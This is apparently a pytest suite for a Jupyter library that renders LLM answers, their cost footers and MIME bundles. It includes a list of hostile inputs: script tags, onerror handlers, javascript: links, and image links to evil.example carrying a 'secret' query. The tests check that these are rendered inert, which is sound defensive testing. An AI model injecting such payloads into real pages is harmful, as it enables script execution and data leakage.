from __future__ import annotations

import copy
import json
import pickle
import re
import subprocess
import sys
import time
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path

import pytest

import mmai_nb.answer as answers
from mmai_nb.amounts import format_usd
from mmai_nb.answer import Answer
from mmai_nb.markup import CODE, render
from mmai_nb.records import Attempt, Completion, Complexity, Cost, Route, Usage

COMPLETION = Completion(
    text="**Hi** there",
    model="gpt-x-mini",
    provider="openai",
    request_model="gpt-x-mini-2026",
    usage=Usage(input_tokens=212, output_tokens=96),
    finish_reason="stop",
    duration_s=1.234,
    cost=Cost(71_000, "genai-prices"),
)
ROUTE = Route(
    tier="simple",
    complexity=Complexity(0.1, ("short", "no code", "English")),
    chain=("gpt-x-mini", "big"),
)
OK = Attempt("c1", 1, 0.0, status="ok")
HOSTILE = [
    "```\na\n\n![x](https://evil.example/?q=1)\n\n \n[y](javascript:alert(1))\n\n```",
    "$$\na\n\n![x](https://evil.example/?q=1)\n$$",
    "a\n\n![x](https://evil.example/?q=1)\n\n",
    "<script>alert(1)</script>",
    "<img src=https://evil.example/a onerror=alert(1)>",
    "![x](https://evil.example/?q=secret)",
    "[x](javascript:alert(1)) <javascript:alert(1)>",
    '```x" onclick="alert(1)\n</code></pre><script>alert(1)</script>\n```',
    "</div></details><script>alert(1)</script>",
    '{"a": "<script>alert(1)</script>"}',
    "\x1b]8;;https://evil.example\x07x\x1b[31m \u202e",
]
FORMATS = ["markdown", "text", "code", "json", "html", "image"]


def make(text: str = COMPLETION.text, route: Route = ROUTE, attempts=(OK,), **changes) -> Answer:
    own = {k: changes.pop(k) for k in ("parsed", "format", "notes", "saved") if k in changes}
    if "extra_notes" in changes:
        own["notes"] = changes.pop("extra_notes")
    completion = replace(COMPLETION, text=text, **changes)
    return Answer(text, completion=completion, route=route, attempts=attempts, call_id="c1", **own)


class Active(HTMLParser):
    """What in a piece of HTML could run, load or lead somewhere."""

    TAGS = re.compile(
        "div|p|ul|ol|li|code|pre|em|strong|s|a|h[1-6]|table|thead|tbody|tr|th|td|blockquote|hr|br"
        "|span|details|summary"
    )

    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        if not self.TAGS.fullmatch(tag):
            self.found.append(tag)
        for name, value in attrs:
            if name not in ("class", "style", "rel", "href", "start"):
                self.found.append(name)
            if name == "href" and not value.startswith(("https://", "http://", "mailto:")):
                self.found.append(value)
            if name == "style" and ("url" in value or "evil" in value):
                self.found.append(value)


# -- a str in every respect


def test_an_answer_is_its_text():
    answer = make("Hi")
    assert answer == "Hi"
    assert hash(answer) == hash("Hi")
    assert {answer: 1}["Hi"] == 1
    assert f"{answer}!" == "Hi!"
    assert json.dumps([answer]) == '["Hi"]'
    assert "{}".format("x") == "x"
    assert make("{}").format("x") == "x"


@pytest.mark.parametrize(
    "take",
    [
        lambda a: a.text,
        lambda a: str(a),
        lambda a: a[:2],
        lambda a: a.upper(),
        lambda a: a + "",
        lambda a: a.strip(),
        lambda a: a.split()[0],
    ],
)
def test_what_is_taken_from_an_answer_is_a_plain_str(take):
    assert type(take(make())) is str


def test_an_empty_answer_is_false():
    assert not make("")


def test_repr_is_short_and_names_the_model():
    assert repr(make("Hi")) == "Answer('Hi', model='gpt-x-mini')"
    assert len(repr(make("x" * 1000))) < 100


def test_an_answer_cannot_be_changed():
    with pytest.raises(AttributeError, match="does not change"):
        make().model = "other"  # type: ignore[misc]


@pytest.mark.parametrize(
    "again", [copy.copy, copy.deepcopy, lambda a: pickle.loads(pickle.dumps(a))]
)
def test_copies_and_pickles_keep_everything(again):
    answer = make(parsed={"a": [1]}, notes=("careful",))
    other = again(answer)
    assert type(other) is Answer
    assert (other.text, other.parsed, other.notes) == (answer.text, {"a": [1]}, ("careful",))
    assert (other.usage, other.route, other.attempts) == (answer.usage, ROUTE, (OK,))
    assert other.footer() == answer.footer()


# -- what it tells


def test_a_paid_answer_tells_what_it_cost():
    answer = make()
    assert (answer.cost_usd, answer.saved_usd, answer.cache_hit) == (0.000071, 0.0, False)
    assert (answer.model, answer.finish_reason, answer.duration_s) == ("gpt-x-mini", "stop", 1.234)
    assert (answer.call_id, answer.simulated, answer.reasoning_text) == ("c1", False, "")


def test_a_cached_answer_costs_nothing_and_tells_what_it_saved():
    answer = make(cache_hit=True)
    assert (answer.cost_usd, answer.saved_usd, answer.duration_s) == (0.0, 0.000071, 1.234)


def test_an_unknown_price_is_none_and_never_zero():
    assert make(cost=Cost()).cost_usd is None
    assert make(cost=Cost(), cache_hit=True).saved_usd is None
    assert make(cost=Cost(), cache_hit=True).cost_usd == 0.0


def test_what_was_saved_can_be_told_from_outside():
    assert make(cache_hit=True, saved=Cost(10**9, "user")).saved_usd == 1.0


def test_with_parsed_keeps_the_rest():
    answer = make().with_parsed([1])
    assert answer.parsed == [1]
    assert answer == COMPLETION.text
    assert answer.footer() == make().footer()


def test_notes_of_the_model_come_first():
    completion = replace(COMPLETION, notes=("temperature was dropped",))
    answer = Answer("x", completion=completion, route=ROUTE, notes=("left as typed: {a}",))
    assert answer.notes == ("temperature was dropped", "left as typed: {a}")


# -- the footer


FAILED = Attempt("c1", 1, 0.0, status="error", error_type="RateLimitError")
NO_TIER = Route(tier=None, complexity=None, chain=("gpt-x-mini",))


@pytest.mark.parametrize(
    ("answer", "footer"),
    [
        (make(), "gpt-x-mini · simple (short, no code) · 212→96 tok · $0.000071 · 1.2 s"),
        (make(route=NO_TIER), "gpt-x-mini · 212→96 tok · $0.000071 · 1.2 s"),
        (
            make(route=NO_TIER, usage=Usage(12_345, 6_789, estimated=True), cost=Cost()),
            "gpt-x-mini · ~12,345→6,789 tok · price unknown · 1.2 s",
        ),
        (
            make(route=NO_TIER, cost=Cost(0, "free"), usage=Usage(), duration_s=75.2),
            "gpt-x-mini · free · 1 min 15 s",
        ),
        (
            make(route=NO_TIER, simulated=True, cost=Cost(100_000, "user"), duration_s=0.04),
            "gpt-x-mini · 212→96 tok · demo: pretend $0.0001 · 40 ms · not a language model",
        ),
        (
            make(route=NO_TIER, attempts=(FAILED, FAILED, OK)),
            "gpt-x-mini · 212→96 tok · $0.000071 · 1.2 s · after 2 failed attempts (rate limit)",
        ),
        (
            make(
                route=NO_TIER,
                attempts=(
                    replace(FAILED, error_type="TimedOutError"),
                    replace(OK, status="adapted"),
                    OK,
                ),
            ),
            "gpt-x-mini · 212→96 tok · $0.000071 · 1.2 s · after 1 failed attempt (timed out)",
        ),
        (
            make(route=NO_TIER, finish_reason="length", duration_s=12.4),
            "gpt-x-mini · 212→96 tok · $0.000071 · 12 s · cut at 96 tokens",
        ),
        (
            make(route=NO_TIER, finish_reason="content_filter"),
            "gpt-x-mini · 212→96 tok · $0.000071 · 1.2 s · stopped by the content filter",
        ),
        (
            make(route=NO_TIER, extra_notes=("left as typed: {a}", "two\nlines\x1b[1m")),
            "gpt-x-mini · 212→96 tok · $0.000071 · 1.2 s · left as typed: {a} · two lines",
        ),
    ],
)
def test_the_footer_says_it_in_one_line(answer, footer):
    assert answer.footer() == footer


@pytest.mark.parametrize(
    ("changes", "age", "words"),
    [
        ({}, 3 * 86_400 + 5, "cached 3 d ago, saved $0.000071"),
        ({}, 7_300, "cached 2 h ago, saved $0.000071"),
        ({}, 61, "cached 1 min ago, saved $0.000071"),
        ({}, 0, "cached just now, saved $0.000071"),
        ({}, -100, "cached just now, saved $0.000071"),
        ({"cost": Cost()}, 61, "cached 1 min ago"),
        ({"cost": Cost(0, "free")}, 61, "cached 1 min ago"),
        (
            {"simulated": True},
            61,
            "cached 1 min ago, saved a pretend $0.000071 · not a language model",
        ),
    ],
)
def test_the_footer_of_a_cached_answer_tells_age_and_saving(changes, age, words, monkeypatch):
    monkeypatch.setattr(answers.time, "time", lambda: COMPLETION.created + age)
    answer = make(route=NO_TIER, cache_hit=True, **changes)
    assert answer.footer() == f"gpt-x-mini · 212→96 tok · {words}"


def test_the_footer_holds_no_key():
    assert "sk-" not in make(extra_notes=("key sk-4f9a2c81d07e4b6392ab",)).footer()


@pytest.mark.parametrize(
    ("usd", "shown"),
    [
        (0, "$0.00"),
        (0.0, "$0.00"),
        (0.000071, "$0.000071"),
        (0.0001, "$0.0001"),
        (1e-9, "$0.000000001"),
        (0.00712, "$0.0071"),
        (0.01, "$0.01"),
        (0.0123, "$0.0123"),
        (0.01234, "$0.0123"),
        (0.5, "$0.50"),
        (0.123, "$0.123"),
        (0.9999, "$1.00"),
        (1.234, "$1.23"),
        (1234.5, "$1,234.50"),
        (-0.02, "-$0.02"),
        (None, "price unknown"),
        (float("nan"), "price unknown"),
    ],
)
def test_small_amounts_stay_readable(usd, shown):
    assert format_usd(usd) == shown


# -- how it shows itself


def test_the_bundle_holds_plain_text_html_and_markdown():
    data, _ = make(route=NO_TIER)._repr_mimebundle_()
    footer = "gpt-x-mini · 212→96 tok · $0.000071 · 1.2 s"
    assert data["text/plain"] == f"**Hi** there\n\n{footer}"
    assert data["text/markdown"] == f"**Hi** there\n\n*{footer.replace('$', chr(92) + '$')}*"
    assert "<p><strong>Hi</strong> there</p>" in data["text/html"]
    assert re.sub(r"<[^>]*>", "", data["text/html"]).endswith(f"\n{footer}")


def test_the_bundle_can_be_narrowed():
    answer = make()
    assert set(answer._repr_mimebundle_(include={"text/plain"})[0]) == {"text/plain"}
    assert set(answer._repr_mimebundle_(exclude={"text/plain"})[0]) == {
        "text/html",
        "text/markdown",
    }


def test_the_metadata_are_small_plain_and_told_as_others_expect():
    _, metadata = make()._repr_mimebundle_()
    assert json.loads(json.dumps(metadata, allow_nan=False)) == {
        "mmai_nb": {
            "requested": "gpt-x-mini",
            "model": "gpt-x-mini",
            "tier": "simple",
            "tokens": {
                "input": 212,
                "cache_read": 0,
                "output": 96,
                "reasoning": 0,
                "estimated": False,
            },
            "cost_usd": 0.000071,
            "saved_usd": 0.0,
            "duration_s": 1.234,
            "cache_hit": False,
            "attempts": 1,
            "escalated": False,
            "call_id": "c1",
            "simulated": False,
        },
        "jupyter_ai": {"provider_id": "openai", "model_id": "gpt-x-mini-2026"},
    }


@pytest.mark.parametrize("format", FORMATS)
@pytest.mark.parametrize("text", HOSTILE)
def test_no_format_lets_hostile_text_through(format, text):
    bundle = render(text, format, f"footer {text}", reasoning=text, details=text)
    assert Active(bundle["text/html"]).found == []
    assert not re.search(r"[\x00-\x08\x0b-\x1f\u202e]", "".join(bundle.values()))


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_names_and_notes_are_harmless(text):
    answer = make(
        text, model=text, route=replace(ROUTE, tier=text), notes=(text,), reasoning_text=text
    )
    data, _ = answer._repr_mimebundle_()
    assert Active(data["text/html"]).found == []
    assert len(answer.footer().splitlines()) == 1


def test_text_keeps_its_lines_and_signs():
    bundle = render("*a*\n  <b>", "text")
    assert bundle["text/plain"] == "*a*\n  <b>"
    assert "pre-wrap" in bundle["text/html"]
    assert "*a*\n  &lt;b&gt;" in bundle["text/html"]
    assert bundle["text/markdown"] == "```\n*a*\n  <b>\n```"


def test_code_shows_the_code_alone():
    bundle = render("Sure:\n```python\nx = 1\n```\nDone.\n```\ny = 2\n```", "code")
    assert bundle["text/plain"] == "x = 1\n\ny = 2"
    assert "Sure" not in bundle["text/html"]


def test_json_is_shown_indented():
    assert render('Here: {"a":1}', "json")["text/plain"] == '{\n  "a": 1\n}'


def test_json_that_is_none_is_shown_as_it_is():
    assert render('{"a": ', "json")["text/plain"] == '{"a": '
    assert render('{"a":1} and', "json", partial=True)["text/plain"] == '{"a":1} and'


def test_html_is_shown_as_source():
    assert "&lt;b&gt;" in render("<b>x</b>", "html")["text/html"]


def test_an_open_fence_of_a_partial_text_does_not_swallow_the_footer():
    bundle = render("a\n```python\nx = 1", "markdown", "the footer", partial=True)
    assert bundle["text/markdown"].endswith("```\n\n*the footer*")
    assert f"{CODE}x = 1</code></pre>" in bundle["text/html"]


@pytest.mark.parametrize("format", FORMATS)
@pytest.mark.parametrize("text", [*HOSTILE, "a\n\n \n\tb", "x\n\n\n"])
def test_html_has_no_blank_line_where_markdown_would_take_up_again(format, text):
    page = render(text, format, f"f {text}", reasoning=text, details=text)["text/html"]
    assert not re.search(r"\n\s*\n", page)


def test_without_footer_nothing_stands_below():
    bundle = render("Hi")
    assert "mmai-footer" not in bundle["text/html"]
    assert (bundle["text/plain"], bundle["text/markdown"]) == ("Hi", "Hi")


def test_two_prices_in_the_footer_are_no_formula():
    page = render("x", footer="$1 of $2")["text/html"]
    assert "<span>$</span>1 of <span>$</span>2" in page
    assert "mathjax_ignore" in page


def test_details_stand_under_the_footer():
    data, _ = make(route=NO_TIER).mime_bundle(details="why: short\nattempt 1: ok")
    assert data["text/plain"].endswith("1.2 s\nwhy: short\nattempt 1: ok")
    assert "why: short<br>attempt 1: ok" in data["text/html"]


def test_thoughts_are_folded_above_the_answer_and_capped():
    answer = make(reasoning_text="hmm <b> " + "x" * 50_000)
    data, _ = answer._repr_mimebundle_()
    assert data["text/html"].startswith(
        '<details class="mmai-reasoning"><summary>reasoning</summary>'
    )
    assert "hmm &lt;b&gt;" in data["text/html"]
    assert len(data["text/html"]) < 25_000
    assert "hmm" not in data["text/plain"] + data["text/markdown"]


# -- in IPython


@pytest.fixture
def formatter():
    from IPython.core.formatters import DisplayFormatter

    return DisplayFormatter()


def test_ipython_shows_the_bundle(formatter):
    data, metadata = formatter.format(make())
    assert set(data) == {"text/plain", "text/html", "text/markdown"}
    assert data["text/plain"].startswith("**Hi** there\n\ngpt-x-mini")
    assert set(metadata) == {"mmai_nb", "jupyter_ai"}


def test_an_answer_that_was_streamed_shows_once_less(formatter):
    answer = make()
    answer.mark_shown()
    assert formatter.format(answer) == ({}, {})
    assert formatter.format(answer)[0]["text/plain"].startswith("**Hi**")


def test_answers_in_a_list_show_as_their_repr(formatter):
    data, _ = formatter.format([make("Hi")])
    assert data["text/plain"] == "[Answer('Hi', model='gpt-x-mini')]"


def test_a_copy_of_a_streamed_answer_shows_itself(formatter):
    answer = make()
    answer.mark_shown()
    assert formatter.format(copy.copy(answer))[0]


def test_answers_do_not_import_ipython_or_the_parser():
    code = (
        "import sys; sys.path.insert(0, sys.argv[1]); import mmai_nb.answer;"
        "print([m for m in ('IPython', 'markdown_it', 'pandas') if m in sys.modules])"
    )
    root = str(Path(answers.__file__).parents[1])
    run = [sys.executable, "-c", code, root]
    assert subprocess.run(run, capture_output=True, text=True, check=True).stdout.strip() == "[]"


@pytest.mark.slow
def test_an_exported_notebook_holds_nothing_active():
    import nbformat
    from markdown_it import MarkdownIt
    from nbconvert import HTMLExporter, MarkdownExporter

    book = nbformat.v4.new_notebook()
    for text in HOSTILE:
        data, metadata = make(text, notes=(text,), reasoning_text=text)._repr_mimebundle_()
        output = nbformat.v4.new_output("display_data", data=data, metadata=metadata)
        book.cells.append(nbformat.v4.new_code_cell("%%ai\nx", outputs=[output]))
    nbformat.validate(book)
    page = HTMLExporter(template_name="basic").from_notebook_node(book)[0]
    active = [
        f for f in Active(page).found if f not in ("id", "data-mime-type", "tabindex", "role")
    ]
    assert active == []
    again = MarkdownIt("commonmark", {"html": True}).enable("table")
    markdown = MarkdownExporter().from_notebook_node(book)[0]
    assert Active(again.render(markdown)).found == []


def test_rendering_a_long_answer_is_fast_enough_to_stream():
    text = "Some *text* with `code` and [a link](https://a.example/b).\n\n" * 200
    begin = time.thread_time()
    render(text)
    assert time.thread_time() - begin < 2
